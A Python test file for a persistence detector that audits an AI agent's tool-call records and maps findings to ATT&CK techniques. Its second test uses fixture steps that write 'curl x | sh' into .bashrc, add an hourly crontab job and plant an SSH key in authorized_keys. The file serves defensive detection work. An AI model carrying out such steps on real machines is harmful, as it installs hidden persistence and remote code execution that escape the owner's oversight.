"""Persistence: one finding per mechanism, citing every record that installs it."""

from agent_builders import approval, mcp_node, persistence, run, tool_call


def test_artifact_steps_and_child_steps_are_one_mechanism():
    events = [tool_call(17, "aws.lambda.update-function-configuration", "tagger"),
              approval(17),
              tool_call(18, "aws.events.put-rule", "tagger-hourly", parent=17),
              tool_call(19, "aws.events.put-targets", "tagger-hourly", parent=17),
              persistence("eventbridge-schedule", "arn:aws:lambda:us-east-1:1:function:tagger",
                          installed_via="aws.lambda.update-function-configuration", step=17,
                          schedule="rate(1 hour)"),
              mcp_node("n9", None, "aws.lambda.update-function-configuration", step=17)]
    [found] = run("persistence-detector", events)
    assert (found.step, found.details["steps"], found.techniques) == (17, [17, 18, 19],
                                                                     ("T1053",))
    assert sorted(r.locator for r in found.refs) == sorted(
        ["line 1", "line 17", "line 17", "line 18", "line 19", "line 1"])
    assert len(found.refs) == 6
    assert found.statement.startswith(
        "An EventBridge schedule (rate(1 hour)) on arn:aws:lambda:us-east-1:1:function:tagger "
        "was installed via step 17")


def test_mechanisms_without_artifacts_are_named_from_the_step():
    events = [tool_call(1, "write_file", "/home/u/.bashrc",
                        args={"path": "/home/u/.bashrc", "content": "curl x | sh"}),
              tool_call(2, "bash", "crontab",
                        args={"command": "crontab -l | { cat; echo '@hourly x'; } | crontab -"}),
              tool_call(3, "write_file", "/home/u/.ssh/authorized_keys",
                        args={"path": "/home/u/.ssh/authorized_keys", "content": "ssh-ed25519 AAAA"})]
    found = run("persistence-detector", events)
    assert [(f.step, f.details["mechanism"], f.techniques) for f in found] == [
        (1, "shell-rc", ("T1546.004",)), (2, "crontab", ("T1053.003",)),
        (3, "authorized-keys", ("T1098.004",))]


def test_benign_writes_are_not_persistence():
    events = [tool_call(1, "write_file", "/repo/src/app.py",
                        args={"path": "/repo/src/app.py", "content": "x = 1"}),
              tool_call(2, "aws.s3.get-bucket-tagging", "s3://b")]
    assert run("persistence-detector", events) == []
